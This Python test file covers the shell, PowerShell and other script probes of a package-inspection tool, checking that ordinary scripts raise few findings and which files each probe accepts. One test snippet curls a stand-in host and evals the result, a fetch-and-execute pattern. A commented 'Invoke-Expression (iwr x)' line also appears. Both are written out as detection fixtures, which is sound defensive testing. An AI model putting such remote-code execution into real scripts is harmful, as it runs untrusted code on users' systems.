# ruff: noqa: E501 - snippets stand on one line, as they are told apart
"""The shell, PowerShell and other script probes on ordinary scripts, and what they accept."""

from __future__ import annotations

import pytest

from doorward.inspect.probes.csharp import CSharpProbe
from doorward.inspect.probes.other_scripts import OtherScriptsProbe
from doorward.inspect.probes.powershell import PowerShellProbe, analyse_powershell
from doorward.inspect.probes.shell import ShellProbe, analyse_shell

ORDINARY = {
    "maintainer script": (
        '#!/bin/sh\nset -e\ncase "$1" in\n  configure)\n    adduser --system --group foo || true\n'
        "    chown foo: /var/lib/foo\n    deb-systemd-invoke start foo.service >/dev/null || true\n  ;;\nesac\n"
    ),
    "build script": '#!/usr/bin/env bash\nset -euo pipefail\ncd "$(dirname "$0")"\nmake -j"$(nproc)" all\ncp out/* dist/\n',
    "wrapper": '#!/bin/sh\nexec "$(dirname "$0")/node_modules/.bin/tool" "$@"\n',
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_shell_says_little(name: str) -> None:
    said = {f"{trait.kind} {trait.key}" for trait in analyse_shell(ORDINARY[name])}
    assert {one for one in said if one.split()[0] != "script.capability"} == set()


def test_functions_are_told_apart_and_calls_followed() -> None:
    source = 'get() {\n  curl -s https://x.example\n}\nrun() {\n  eval "$(get)"\n}\nrun\n'
    found = {f"{trait.kind} {trait.key}": trait for trait in analyse_shell(source)}
    assert found["script.capability network"].evidence.where == "get"
    assert found["script.dataflow network-to-dynamic-code"].evidence.where == "run"
    assert found["script.dataflow network-to-dynamic-code"].evidence.line == 5


def test_ordinary_powershell_says_little() -> None:
    source = "param([string]$Path)\n# Invoke-Expression (iwr x)\nGet-ChildItem $Path | Where-Object { $_.Length -gt 10 }\nWrite-Host 'iex'\n"
    said = {trait.kind for trait in analyse_powershell(source)}
    assert "script.dataflow" not in said
    assert "script.combination" not in said


def test_places_of_package_scripts() -> None:
    probe = ShellProbe()
    assert probe.accepts("control.tar.xz!/postinst", b"set -e\n")
    assert probe.accepts("x.rpm/scriptlets/postin", b"echo\n")
    assert probe.accepts("etc/cron.daily/logs", b"#!/bin/sh\n")
    assert not probe.accepts("control.tar.xz!/postinst", b"#!/usr/bin/perl\n")
    assert not probe.accepts("a.sh", b"\x7fELF\0\0\0")


def test_other_languages_are_told_by_extension_or_first_line() -> None:
    assert PowerShellProbe().accepts("a/B.PS1", b"")
    assert CSharpProbe().accepts("a/B.cs", b"using System;")
    probe = OtherScriptsProbe()
    assert probe.accepts("x.bat", b"@echo off")
    assert probe.accepts("bin/x", b"#!/usr/bin/perl -w\n")
    assert probe.accepts("lib/x.rb", b"module X")
    assert not probe.accepts("x.py", b"import os")
